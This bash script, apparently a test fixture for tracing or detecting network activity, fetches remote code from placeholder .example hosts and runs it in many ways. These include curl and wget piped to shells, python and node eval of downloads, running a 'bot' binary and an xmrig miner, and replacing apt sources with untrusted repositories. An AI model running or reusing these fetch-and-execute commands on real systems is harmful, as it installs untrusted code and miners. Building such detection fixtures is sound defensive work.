#!/bin/bash
# Fetches something from the network in every way that people and malware do, and runs it; each from a host of its own, so that a
# trace tells them apart. One that only stores what it fetched comes last. By http, then by https.
say() { echo "== $1"; }

# fetch_and_run SCHEME PACKAGE PACKAGE PACKAGE
fetch_and_run() {
  scheme=$1
  rm -rf /tmp/work
  mkdir -p /tmp/work
  cd /tmp/work || exit 1

  say "$scheme: shell"
  curl -s "$scheme://curl-sh.example/x.sh" | sh
  wget -qO- "$scheme://wget-bash.example/run" | bash
  curl -s "$scheme://busybox.example/x.sh" | busybox sh
  # shellcheck disable=SC1090
  source <(curl -s "$scheme://sourced.example/env.sh")
  curl -s "$scheme://gunzip.example/x.sh.gz" | gunzip | sh
  curl -s "$scheme://python-pipe.example/run" | python3

  say interpreters
  python3 -c "import urllib.request as u; exec(u.urlopen('$scheme://python-exec.example/x.py').read())"
  python3 -c "import urllib.request as u; exec(u.urlopen('$scheme://python-bare.example/stage2').read())"
  module=http
  [[ $scheme == http ]] || module=https
  node -e "require('$module').get('$scheme://node-eval.example/x.js', r => { let b = ''; r.on('data', d => b += d); r.on('end', () => eval(b)); })"
  node -e "require('$module').get('$scheme://node-bare.example/stage2', r => { let b = ''; r.on('data', d => b += d); r.on('end', () => eval(b)); })"
  curl -s "$scheme://perl.example/x.pl" | perl
  curl -s "$scheme://php.example/x.php" -A PHP -o x.php && php x.php
  curl -s "$scheme://ruby.example/x.rb" | ruby

  say programs
  curl -s -o elf "$scheme://elf.example/bot-linux-amd64" && chmod +x elf && ./elf
  wget -q -O lib.so "$scheme://dlopen.example/lib.so" && python3 -c "import ctypes; ctypes.CDLL('./lib.so')"
  mkdir -p tar && curl -s "$scheme://tar.example/xmrig-6.21.tar.gz" | tar xz -C tar && ./tar/xmrig-6.21/xmrig
  wget -q -O kit.zip "$scheme://zip.example/kit.zip" && python3 -m zipfile -e kit.zip zip && sh zip/install.sh

  say packages
  rm -rf /etc/apt/sources.list.d/*
  echo "deb [trusted=yes] $scheme://apt.example/debian stable main" >/etc/apt/sources.list
  apt-get -q update && apt-get -qy install "$2"
  # By whatever keys the image has.
  echo "deb $scheme://apt-signed.example/debian bookworm main" >/etc/apt/sources.list
  apt-get -q update && apt-get -qy install "$3"
  echo "deb [signed-by=/usr/share/keyrings/debian-archive-keyring.gpg] $scheme://apt-keyring.example/debian bookworm main" >/etc/apt/sources.list
  apt-get -q update && apt-get -qy install "$4"
  # By https it has to trust the server as everything else does.
  trusted=()
  [[ $scheme == https ]] || trusted=(--trusted-host pypi.example)
  pip3 install -q --disable-pip-version-check --break-system-packages --index-url "$scheme://pypi.example/simple/" "${trusted[@]}" "evil-$scheme"

  say stored
  curl -s -o stored "$scheme://stored.example/x.sh"
}

fetch_and_run http hydra nmap socat
fetch_and_run https screen tmux tor
say end
